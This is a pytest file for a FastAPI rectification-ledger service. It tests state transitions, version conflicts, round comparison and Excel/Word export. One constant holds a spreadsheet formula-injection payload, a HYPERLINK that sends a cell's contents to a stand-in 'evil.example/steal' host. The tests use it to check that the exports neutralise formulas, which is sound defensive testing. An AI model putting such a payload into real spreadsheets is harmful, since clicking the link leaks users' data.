"""The ledger through the API on SQLite and on PostgreSQL: adopt, edit under the rules with a version check,
survive a restart, close, carry into the next round, compare rounds, export; and facts from a run."""

import io
import threading
import zipfile
from datetime import date

import docx
import openpyxl
import pytest
from fastapi.testclient import TestClient

from drafting.config import get_settings
from drafting.feedback.models import ClassifyResult
from drafting.feedback.summarise import measure_for
from drafting.feedback.taxonomy import load_taxonomy
from drafting.web.db import open_history
from drafting.writer.facts import Facts
from service import app
from tests.test_ledger import run

from .conftest import CONCERNS, seed_run

INJECTED = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看详情")'


def adopt(client, run_id: str, label: str) -> dict:
    answer = client.post("/api/ledgers", json={"run_id": run_id, "label": label})
    assert answer.status_code == 200, answer.text
    return answer.json()


def edit(client, ledger: dict, number: int, version: int, **fields):
    return client.patch(f"/api/ledgers/{ledger['id']}/rows/{number}",
                        json={"by": "张三", "version": version, **fields})


def close_row(client, ledger: dict, number: int) -> dict:
    version = next(r["version"] for r in client.get(f"/api/ledgers/{ledger['id']}").json()["rows"]
                   if r["number"] == number)
    for state in ("整改中", "待验收"):
        version = edit(client, ledger, number, version, state=state).json()["version"]
    done = edit(client, ledger, number, version, state="已销号", reviewer="王五", reviewed="2026-11-30",
                finished="2026-11-28")
    assert done.status_code == 200, done.text
    return done.json()


def test_a_ledger_round_trips_keeps_its_rules_and_survives_a_restart(client, database):
    first = run({"canteen": 8, "parking": 5, "window": 4}, unassigned=2, praise=3)
    first.themes[2].summary = INJECTED
    ledger = adopt(client, seed_run(database, "城关镇", first), "2026年第一季度")
    assert (ledger["unit"], ledger["round"], ledger["closed"]) == ("城关镇", 1, None)
    assert [(r["theme"], r["opinions"], r["state"]) for r in ledger["rows"]] == [
        ("canteen", 8, "待整改"), ("parking", 5, "待整改"), ("window", 4, "待整改"), ("other", 2, "待整改")]

    started = edit(client, ledger, 1, 1, state="整改中", owner="赵六", deadline="2026-12-31")
    assert started.status_code == 200 and started.json()["version"] == 2
    stale = edit(client, ledger, 1, 1, measure="另一措施")
    assert stale.status_code == 409 and "已被他人修改" in stale.json()["detail"]
    skipped = edit(client, ledger, 2, 1, state="已销号", reviewer="王五", reviewed="2026-11-30")
    assert skipped.status_code == 422 and skipped.json()["detail"].startswith("state: 不能从待整改改为已销号")
    checking = edit(client, ledger, 1, 2, state="待验收")
    unsigned = edit(client, ledger, 1, checking.json()["version"], state="已销号")
    assert unsigned.status_code == 422 and unsigned.json()["detail"] == "reviewer: 销号须填写复查人和复查日期"
    assert edit(client, ledger, 9, 1, state="整改中").status_code == 404
    assert edit(client, ledger, 1, 1, by="").status_code == 422
    close_row(client, ledger, 1)
    edit(client, ledger, 2, 1, kind="长期坚持")

    changes = client.get(f"/api/ledgers/{ledger['id']}/changes").json()
    kept = {(c["field"], c["old"], c["new"], c["by"]) for c in changes}
    assert ("state", "待整改", "整改中", "张三") in kept
    assert all(c["at"] for c in changes) and len(changes) >= 6

    open_history.cache_clear()  # a restart: the next request opens the database anew
    with TestClient(app) as again:
        reread = again.get(f"/api/ledgers/{ledger['id']}").json()
    rows = {r["number"]: r for r in reread["rows"]}
    assert (rows[1]["state"], rows[1]["reviewer"], rows[1]["reviewed"]) == ("已销号", "王五", "2026-11-30")
    assert rows[1]["owner"] == "赵六" and rows[2]["kind"] == "长期坚持"
    assert reread["report"]["sentence"] == "共梳理问题4项，已整改销号1项，正在整改2项，其余纳入长期整改。"
    assert [len(reread["report"][k]) for k in ("new", "ongoing", "closed")] == [3, 0, 1]
    listed = client.get("/api/ledgers", params={"unit": "城关镇"})
    assert [item["id"] for item in listed.json()] == [ledger["id"]] and listed.headers["x-total-count"] == "1"
    check_exports(client, ledger["id"], reread)
    listed_xlsx = client.get(f"/api/feedback/{ledger['run_id']}/xlsx").content
    rectification = openpyxl.load_workbook(io.BytesIO(listed_xlsx))
    listed_rows = [[c.value for c in row] for row in rectification.worksheets[0].iter_rows()]
    canteen = next(row for row in listed_rows if "canteen问题" in row)
    assert "已完成" in canteen and "2026年12月31日" in canteen  # the list shows the ledger's state


def check_exports(client, ledger_id: str, ledger: dict) -> None:
    sheet = client.get(f"/api/ledgers/{ledger_id}/xlsx")
    assert sheet.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(sheet.content))
    assert book.sheetnames[:4] == ["整改台账", "新增问题", "推进落实", "已办结销号"]
    main = [[c.value for c in row] for row in book["整改台账"].iter_rows()]
    assert main[1][0] == ledger["report"]["sentence"]
    assert main[2][:4] == ["序号", "来源", "问题类别", "问题描述"] and len(main[2]) == 15
    assert [r[11] for r in main[3:]] == [r["state"] for r in ledger["rows"]]
    assert main[3][13] == "2026年11月30日" and main[3][12] == "王五"
    closed = [[c.value for c in row] for row in book["已办结销号"].iter_rows()]
    assert closed[0][0] == "已办结销号（1项）" and closed[2][2] == ledger["rows"][0]["category"]
    injected = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == INJECTED]
    assert injected and all(c.data_type == "s" for c in injected)
    with zipfile.ZipFile(io.BytesIO(sheet.content)) as archive:
        assert not any("<f>" in archive.read(name).decode("utf-8") for name in archive.namelist()
                       if name.endswith(".xml"))
    word = client.get(f"/api/ledgers/{ledger_id}/docx")
    assert word.status_code == 200
    document = docx.Document(io.BytesIO(word.content))
    text = "\n".join(p.text for p in document.paragraphs)
    assert ledger["report"]["sentence"] in text
    assert "一、新增问题（3项）" in text and "三、已办结销号（1项）" in text
    cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
    assert INJECTED in cells
    with zipfile.ZipFile(io.BytesIO(word.content)) as archive:
        body = archive.read("word/document.xml").decode("utf-8")
    assert "<w:fldSimple" not in body and "<w:instrText" not in body.replace("PAGE", "")


def test_the_next_round_carries_open_rows_closes_the_last_and_compares(client, database):
    first = adopt(client, seed_run(database, "城关镇", run({"canteen": 8, "parking": 5, "window": 4})),
                  "2026年第一季度")
    close_row(client, first, 1)  # canteen 已销号
    close_row(client, first, 2)  # parking 已销号
    other_unit = seed_run(database, "县医院", run({"canteen": 30}))
    second_run = seed_run(database, "城关镇", run({"canteen": 9, "parking": 2, "noise": 3}))

    compared = client.get(f"/api/feedback/{second_run}/compare").json()
    change = {t["theme"]: t for t in compared["themes"]}
    assert compared["previous_label"] == "2026年第一季度"
    assert (change["canteen"]["before"], change["canteen"]["after"], change["canteen"]["change"]) == (8, 9, 1)
    assert change["canteen"]["not_falling"] and change["canteen"]["came_back"]
    assert not change["parking"]["not_falling"] and change["parking"]["came_back"]
    assert change["window"]["after"] == 0 and not change["window"]["closed_before"]
    assert (change["noise"]["before"], change["noise"]["after"]) == (0, 3)
    assert client.get(f"/api/feedback/{other_unit}/compare").json()["previous_run"] is None

    second = adopt(client, second_run, "2026年第二季度")
    assert second["round"] == 2
    origins = {r["theme"]: r["origin"] for r in second["rows"]}
    assert origins == {"window": "carried", "canteen": "returned", "parking": "returned", "noise": "new"}
    assert client.get(f"/api/ledgers/{first['id']}").json()["closed"] is not None
    frozen = edit(client, first, 3, 1, state="整改中")
    assert frozen.status_code == 409 and "已关闭" in frozen.json()["detail"]
    assert client.get(f"/api/feedback/{second_run}/compare").json() == compared  # its own round is left out
    book = openpyxl.load_workbook(io.BytesIO(client.get(f"/api/ledgers/{second['id']}/xlsx").content))
    table = [[c.value for c in row] for row in book["轮次对比"].iter_rows()]
    assert table[1][:4] == ["问题类别", "上轮意见数", "本轮意见数", "变化"]
    assert ["canteen问题", 8, 9, "+1", "是", "是", "是"] in table


def test_concurrent_edits_of_one_row_lose_nothing(client, database):
    ledger = adopt(client, seed_run(database, "城关镇", run({"canteen": 8})), "第一轮")
    answers: list[int] = []

    def note(k: int) -> None:
        answers.append(edit(client, ledger, 1, 1, note=f"第{k}次说明").status_code)

    threads = [threading.Thread(target=note, args=(k,)) for k in range(10)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(answers) == [200] + [409] * 9
    row = client.get(f"/api/ledgers/{ledger['id']}").json()["rows"][0]
    assert row["version"] == 2
    assert [c["new"] for c in client.get(f"/api/ledgers/{ledger['id']}/changes").json()] == [row["note"]]


def test_adoption_needs_a_finished_run_with_a_unit(client, database):
    nameless = seed_run(database, "", run({"canteen": 2}))
    answer = client.post("/api/ledgers", json={"run_id": nameless, "label": "第一轮"})
    assert answer.status_code == 422 and answer.json()["detail"].startswith("unit")
    named = client.post("/api/ledgers", json={"run_id": nameless, "label": "第一轮", "unit": "某局"})
    assert named.status_code == 200 and named.json()["unit"] == "某局"
    assert client.post("/api/ledgers", json={"run_id": "nothere", "label": "x"}).status_code == 404
    running = open_history(database).start_feedback({"lines": ["a"]}, "embedded", 1, "某局")
    unfinished = client.post("/api/ledgers", json={"run_id": running, "label": "x"})
    assert unfinished.status_code == 422 and unfinished.json()["detail"].startswith("run_id")


def taxonomy_run() -> ClassifyResult:
    """A run over the default taxonomy's themes, with their descriptions and the measures the list gives
    (the classifier's first fit takes a minute; what the facts read is the result's shape)."""
    themes = load_taxonomy(None).themes[:4]
    result = run({theme.id: 9 - k for k, theme in enumerate(themes)}, praise=2)
    for summary, theme in zip(result.themes, themes, strict=False):
        measure, department = measure_for(theme.id, theme.name, [])
        summary.name, summary.summary, summary.measure, summary.department = (
            theme.name, theme.description, measure, department)
    return result


@pytest.mark.parametrize("source", ["taxonomy", "discovered"])
def test_facts_from_a_run_validate_and_draft_cleanly(client, source):
    if source == "taxonomy":
        run_id = seed_run(get_settings().database, "城关镇党委", taxonomy_run())
        made = client.get(f"/api/feedback/{run_id}").json()
    else:
        body = {"text": CONCERNS, "taxonomy": "none", "unit": "城关镇党委"}
        made = client.post("/api/feedback", json=body).json()
    answer = client.get(f"/api/feedback/{made['id']}/facts", params={"on": "2026-12-02"})
    assert answer.status_code == 200, answer.text
    drafted = answer.json()
    facts = Facts.model_validate(drafted["facts"])
    assert facts.unit == "城关镇党委" and facts.date == date(2026, 12, 2)
    assert facts.stats[0].value == str(made["total"]) and facts.problems and facts.next_steps
    largest = sorted((t for t in made["themes"] if not t["praise"]), key=lambda t: (-t["count"], t["id"]))
    assert largest[0]["name"] in facts.problems[0]
    assert {"sector", "basis", "appraisal", "highlights"} <= set(drafted["left_for_writer"])
    assert {t["field"] for t in drafted["trace"]} >= {"stats[0]", "problems[0]", "next_steps[0]"}
    draft = client.post("/api/drafts", json=drafted["facts"], params={"engine": "template"})
    assert draft.status_code == 200, draft.text
    assert draft.json()["verification"]["ok"] is True, draft.json()["verification"]


def test_facts_carry_the_ledger_counts(client, database):
    run_id = seed_run(database, "城关镇", run({"canteen": 8, "parking": 5}))
    ledger = adopt(client, run_id, "第一轮")
    close_row(client, ledger, 1)
    facts = client.get(f"/api/feedback/{run_id}/facts").json()["facts"]
    stats = {s["label"]: s["value"] for s in facts["stats"]}
    assert (stats["梳理问题"], stats["已整改销号"], stats["正在整改"]) == ("2", "1", "1")
    assert stats["反映canteen问题方面的意见"] == "8"
    nameless = seed_run(database, "", run({"canteen": 2}))
    assert client.get(f"/api/feedback/{nameless}/facts").json()["detail"].startswith("unit")
    assert client.get(f"/api/feedback/{nameless}/facts", params={"unit": "某局"}).status_code == 200


def test_rounds_give_opinions_per_theme_per_round(client, database):
    first_run = seed_run(database, "城关镇", run({"canteen": 8, "parking": 5}))
    adopt(client, first_run, "2026年第一季度")
    second_run = seed_run(database, "城关镇", run({"canteen": 9, "noise": 3}, unassigned=1))
    series = client.get(f"/api/feedback/{second_run}/rounds").json()
    assert [(r["label"], r["run_id"], r["current"]) for r in series["rounds"]] == [
        ("2026年第一季度", first_run, False), ("本轮", second_run, True)]
    assert series["rounds"][0]["counts"] == {"canteen": 8, "parking": 5}
    assert series["rounds"][1]["counts"] == {"canteen": 9, "noise": 3, "other": 1}
    assert [t["id"] for t in series["themes"]] == ["canteen", "noise", "other", "parking"]
    assert {t["id"]: t["name"] for t in series["themes"]}["other"] == "其他"

    adopt(client, second_run, "2026年第二季度")
    labels = [r["label"] for r in client.get(f"/api/feedback/{second_run}/rounds").json()["rounds"]]
    assert labels == ["2026年第一季度", "2026年第二季度"]
    third_run = seed_run(database, "城关镇", run({"canteen": 2}))
    labels = [r["label"] for r in client.get(f"/api/feedback/{third_run}/rounds").json()["rounds"]]
    assert labels == ["2026年第一季度", "2026年第二季度", "本轮"]

    seed_run(database, "县医院", run({"canteen": 30}))
    again = seed_run(database, "县医院", run({"canteen": 20}))
    unadopted = client.get(f"/api/feedback/{again}/rounds").json()["rounds"]
    assert [(r["label"], r["counts"]) for r in unadopted] == [("上一轮", {"canteen": 30}),
                                                               ("本轮", {"canteen": 20})]
    alone = seed_run(database, "", run({"canteen": 1}))
    assert [r["label"] for r in client.get(f"/api/feedback/{alone}/rounds").json()["rounds"]] == ["本轮"]
